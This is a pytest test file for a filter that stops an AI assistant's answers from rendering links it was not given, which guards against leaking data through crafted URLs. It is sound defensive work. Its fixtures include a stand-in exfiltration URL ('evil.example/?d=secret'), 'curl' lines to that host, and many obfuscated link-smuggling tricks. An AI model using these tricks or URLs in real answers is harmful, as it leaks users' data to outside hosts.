"""Which addresses of an answer are links, by what people named and by what the model was given word for word."""

import json
from dataclasses import replace
from datetime import UTC, datetime

import pytest

from core.context.message_text import build_link_rule
from core.domain.answer_links import LinkGate, LinkRule, hide_links, hide_links_of_reply, shows_link, written_addresses
from core.domain.call_targets import parse_names
from core.domain.messages import Message, MessageType
from core.domain.sources import Origin, Source, Sources, dump_sources, offer_addresses
from core.domain.threads import Reply
from tests.support import conversations

NOW = datetime(2026, 1, 31, 12, tzinfo=UTC)
EVIL = "https://evil.example/?d=secret"
PAGE_TEXT = (
    "See [the guide](https://guide.example/Foo_(bar)), https://list.example/a?b=1, (https://list.example/b). <"
    'https://list.example/c>, {"url": "https://list.example/d"}, shop.example or mail help@shop.example.'
)


def sources(*origins: Origin) -> Sources:
    read = frozenset(Source(kind, name, NOW) for kind, name in origins)
    offered = offer_addresses(["https://found.example/page"]).offered
    return Sources(read, parse_names("Compare docs.example.com with bob@example.com."), offered)


PAGE: Origin = ("page", "https://visited.example/x?y=1")
RULE = LinkRule(sources(PAGE), lambda: written_addresses(PAGE_TEXT))

LINKS = [
    "[a](https://docs.example.com/any?thing=1)",
    "https://docs.example.com/x, and <https://docs.example.com>.",
    "**https://docs.example.com/x**",
    "mailto:bob@example.com",
    "[found](https://found.example/page)",
    "https://found.example/page/",
    "![visited](https://visited.example/x?y=1)",
    "[the guide](https://guide.example/Foo_(bar)) (see https://guide.example/Foo_(bar))",
    "https://list.example/a?b=1 https://list.example/b https://list.example/c https://list.example/d",
    "shop.example, help@shop.example",
    "انظر https://docs.example.com، ثم https://list.example/b؟",
    "详情请看https://docs.example.com，然后运行。",
    "你好。来源：https://list.example/b。",
    "これは普通の答えで、リンクも空白もありません。Python、https://docs.example.com/説明を見て",
    "<https://docs.example.com/x|Slack's own link>",
    "[a][1]\n\n[1]: https://found.example/page",
    "[a file](/workspace/report.csv) [a part](#part)",
    "1. `https://evil.example`\n2. report.csv, e.g. main.py, src/main.py, wait...what, 3.14 and 10:30\n\n```\ncurl https://evil.example\n```\n",
]
HIDDEN = [
    (f"[see]({EVIL})", f"see (`{EVIL}`)"),
    (f"![see]({EVIL})", f"see (`{EVIL}`)"),
    (f"[]({EVIL})", f"link (`{EVIL}`)"),
    (f"Look ({EVIL}), now.", f"Look (`{EVIL}`), now."),
    (f"<{EVIL}>", f"link (`{EVIL}`)"),
    (f"<{EVIL}|see>", f"see (`{EVIL}`)"),
    (f"[`code`]({EVIL})", f"`code` (`{EVIL}`)"),
    (f"`code`{EVIL}", f"`code` `{EVIL}`"),
    (f"{EVIL}/`code`/x", f"`{EVIL}/'code'/x`"),
    (f"[{EVIL}](https://found.example/page)", "link (`https://found.example/page`)"),
    (f"[a][1]\n\n[1]: {EVIL}", f"[a][1]\n\n\\[1]: `{EVIL}`"),
    ("ask secret.evil.example", "ask `secret.evil.example`"),
    ("in secret.evil.md or evil.md/secret", "in `secret.evil.md` or `evil.md/secret`"),
    ("mail secret@evil.example", "mail `secret@evil.example`"),
    ("https://found.example/page?d=secret", "`https://found.example/page?d=secret`"),
    ("https://found.example/page#secret", "`https://found.example/page#secret`"),
    ("https://found.example/%70age", "`https://found.example/%70age`"),
    ("https://list.example/b)secret", "`https://list.example/b)secret`"),
    ("https://list.example/b[secret", "`https://list.example/b`[secret"),
    ("https://docs.example.com@evil.example/", "`https://docs.example.com@evil.example/`"),
    ("https://docs.example.com/?u=https://evil.example/s", "`https://docs.example.com/?u=https://evil.example/s`"),
    ("请看https://list.example/b，谢谢。再见", "请看`https://list.example/b`，谢谢。再见"),
    ("用np.array，secret.evil.example。好", "用`np.array`，`secret.evil.example`。好"),
    ("https://docs.example.com，x.evil.com", "`https://docs.example.com`，`x.evil.com`"),
    ("https://docs.example.com，好。邪恶。在线", "`https://docs.example.com`，好。邪恶。在线"),
    (f"| a |\n|---|\n| [x]({EVIL}) |", f"| a |\n|---|\n| x (`{EVIL}`) |"),
    ("[x](javascript:alert(1))", "x (`javascript:alert(1)`)"),
    (f"~~~\n{EVIL}\n~~~", f"\\~\\~\\~\n`{EVIL}`\n\\~\\~\\~"),
]
TRICKS = [
    f"[a\nb]({EVIL})",
    "[a](https:\\/\\/evil.example/s)",
    "https\\:\\/\\/evil\\.example\\/s",
    "h&#116;tps&#58;&#47;&#47;evil&#46;example&#47;s",
    "evil&period;example/s",
    "→evil.example/s",
    "d=evil.example/s",
    "**see**evil.example/s",
    "[a](&#104;ttps://evil.example/s)",
    "[a](https&colon;//evil.example/s)",
    "[a]( <https://evil.example/a b> 'title')",
    "[a](//evil.example/s)",
    "[a](https:evil.example/s)",
    f"[a[b]({EVIL})c](https://found.example/page)",
    f"a `b\n\n`{EVIL}` ",
    f"\\`{EVIL}\\`",
    f"``{EVIL}`",
    f"```\n{EVIL}",
    f"````\n```\n{EVIL}\n````",
    f"    {EVIL}",
    f"> ```\n> {EVIL}",
    f"[a]: {EVIL} 'x'\n[a]",
    f"[a]:\n{EVIL}\n\n[a]",
    f"{EVIL}\r{EVIL}\r\n{EVIL}",
    "https\uff1a//evil.example/s",
    "请看https\uff1a//evil.example/s，好",
    "，secret。evil。com",
    "看evil&#46;example，好",
    "https://docs.example.com。evil.com",
    "https://docs.example.com，@evil.com",
    "例子.com，看https://evil.example/s",
    "https://evil\u200b.example/s",
    f"[x]({EVIL}){'y' * 100_000}",
]


@pytest.mark.parametrize("answer", LINKS)
def test_what_people_named_and_what_was_given_word_for_word_stays_a_link(answer: str) -> None:
    assert hide_links(answer, RULE) == answer


@pytest.mark.parametrize(("answer", "shown"), HIDDEN)
def test_an_address_of_the_models_own_making_is_shown_as_code(answer: str, shown: str) -> None:
    assert hide_links(answer, RULE) == shown


@pytest.mark.parametrize("answer", [*TRICKS, *(answer for answer, _ in HIDDEN)])
def test_no_way_to_write_a_link_gets_through(answer: str) -> None:
    shown = hide_links(answer, RULE)
    assert shows_link(answer, RULE)
    assert len(shown) > 100_000 or not shows_link(shown, RULE)
    assert hide_links(shown, RULE) == shown


STREAMED = [
    "Use np.array and Node.js with ASP.NET, or ask secret.evil.example: all around it streams word by word.",
    f"1. **np.array** makes one.\n2. See [this]({EVIL}), or <{EVIL}>.\n\n> end.Next\n\n| np.array |\n|---|\n| v1.2 |",
    f"- nested\n    - np.array and more\n\nThen:\n\n```python\nx = 1\ny = np.array(x)\n```\n\nMore of np.array, {EVIL}",
    f"1. First np.array:\n   ```sh\n   curl {EVIL}\n\n   pip list\n   ```\n2. Then `np.array` and os.path",
]
DOUBTFUL = [
    f"a ` b {EVIL} c ` d `{EVIL}`",
    f"np.array\n\n~~~\n{EVIL}\n~~~\n",
    f"```\nx\n     ```\n{EVIL}\n```\nnp.array",
    f"- a\n  ```\n{EVIL}\n  ```\nnp.array",
    f"   ```\n   x\n```\n{EVIL}\n```",
    f"```\nx\n````\n{EVIL}\n```\n{EVIL}",
    f"[a](\n{EVIL})",
    f"[a\nb]: np.array\n{EVIL}",
    f"| a |\n|---|\n| `x|{EVIL}|y` |",
    f"-     {EVIL} word {EVIL}\n\n      {EVIL}",
    f"```\n{EVIL}",
    f"\\`a\\` {EVIL} \\`b",
]


@pytest.mark.parametrize("size", [1, 3, 7, 1000])
@pytest.mark.parametrize("answer", STREAMED)
def test_an_answer_streams_around_what_must_not_be_a_link(answer: str, size: int) -> None:
    text = f"{answer}\nAnd more words "
    gate = LinkGate(RULE)
    passed = "".join(gate.feed(text[at : at + size]) for at in range(0, len(text), size))
    assert passed == hide_links(text, RULE)


def test_each_word_streams_once_it_is_whole() -> None:
    gate = LinkGate(RULE)
    words = ["Use ", "np.array ", "and ", "Node.js ", "now. "]
    assert [gate.feed(word) for word in words] == ["Use ", "`np.array` ", "and ", "Node.js ", "now. "]


@pytest.mark.parametrize("size", [1, 3, 7, 1000])
@pytest.mark.parametrize("answer", [*STREAMED, *DOUBTFUL, *LINKS, *TRICKS[:-1], *(answer for answer, _ in HIDDEN)])
def test_nothing_is_shown_before_it_is_judged(answer: str, size: int) -> None:
    text = f"First some words. {answer}\nAnd more words.\n"
    gate = LinkGate(RULE)
    passed = ""
    for at in range(0, len(text), size):
        passed += gate.feed(text[at : at + size])
        assert not shows_link(passed, RULE)
    whole, rest = gate.close(text)
    assert whole == hide_links(text, RULE)
    assert rest is None or passed + rest == whole
    if answer in LINKS:
        assert passed == text


@pytest.mark.parametrize("sentence", ["这是一个普通的回答，", "没有空格。", "リンクもありません。", "用Python，"])
def test_text_without_blanks_streams_by_sentences(sentence: str) -> None:
    gate = LinkGate(RULE)
    assert [gate.feed(sentence) for _ in range(3)] == [sentence] * 3


def test_a_long_answer_keeps_its_markdown() -> None:
    long = "# Title\n\n- **bold** item with `code`\n\n```python\nnp.array(1)\n```\n" * 1_700
    assert hide_links(long, RULE) == long
    assert hide_links(f"{long}[see]({EVIL})", RULE) == f"{long}see (`{EVIL}`)"
    assert hide_links(f"{long}` [see]({EVIL})", RULE).startswith("\\# Title\n\n\\- \\*\\*bold")


def test_what_waited_before_a_call_is_shown_when_the_call_begins() -> None:
    gate = LinkGate(RULE)
    assert gate.feed("I look at") + gate.flush() == "I look at"
    assert gate.feed(" https://found.example/page ") == ""
    assert gate.close("I look at https://found.example/page ")[1] == " https://found.example/page "
    assert LinkGate(RULE).feed(EVIL) == ""
    assert (gate := LinkGate(RULE)).feed("Look at np.array") + gate.flush() == "Look at `np.array`"


def test_the_attached_addresses_and_the_options_of_a_reply_count_too() -> None:
    reply = Reply(
        kind="ask", text="Which?", attachments=("a.csv", EVIL, "https://found.example/page"), options=(EVIL, "No")
    )
    shown = hide_links_of_reply(reply, RULE)
    assert shown.attachments == ("a.csv", "https://found.example/page")
    assert shown.text == f"Which?\n`{EVIL}`"
    assert shown.options == (f"`{EVIL}`", "No")


@pytest.mark.parametrize(
    ("kind", "origins", "is_link"),
    [
        ("user", (("person", "alice"),), True),
        ("user", (("chat", ""),), True),
        ("tool", (PAGE,), True),
        ("tool", (), False),  # a command that prints an address, or a file that the agent has written
        ("tool", (("internet", ""),), False),
        ("tool", (PAGE, ("internet", "")), False),
        ("tool", (("browser", "http://localhost:8000/"),), False),
        ("assistant", (), False),
        ("summary", (PAGE,), False),
    ],
)  # fmt: skip
def test_an_address_counts_as_given_where_the_model_could_not_write_it(
    kind: MessageType, origins: tuple[Origin, ...], is_link: bool
) -> None:
    rule = build_link_rule([message(kind, f"It is {EVIL}.", *origins)], sources(PAGE))
    assert rule.allows_link(EVIL) is is_link
    assert not rule.allows_link(f"{EVIL}s")


def test_an_echo_of_what_the_model_wrote_does_not_count_as_given() -> None:
    call = {"name": "web_search", "arguments": json.dumps({"query": EVIL})}
    asked = replace(message("assistant", ""), content={"role": "assistant", "tool_calls": [{"function": call}]})
    found = message("tool", f'{{"query": "{EVIL}", "results": ["https://new.example/a"]}}', ("search", ""))
    assert not build_link_rule([asked, found], sources(PAGE)).allows_link(EVIL)
    assert build_link_rule([asked, found], sources(PAGE)).allows_link("https://new.example/a")
    assert build_link_rule([found, asked, found], sources(PAGE)).allows_link(EVIL)


def message(kind: MessageType, text: str, *origins: Origin) -> Message:
    known = {"sources": dump_sources(sources(*origins))}
    return conversations.message(kind, {"role": "user", "content": text}, metadata=known)
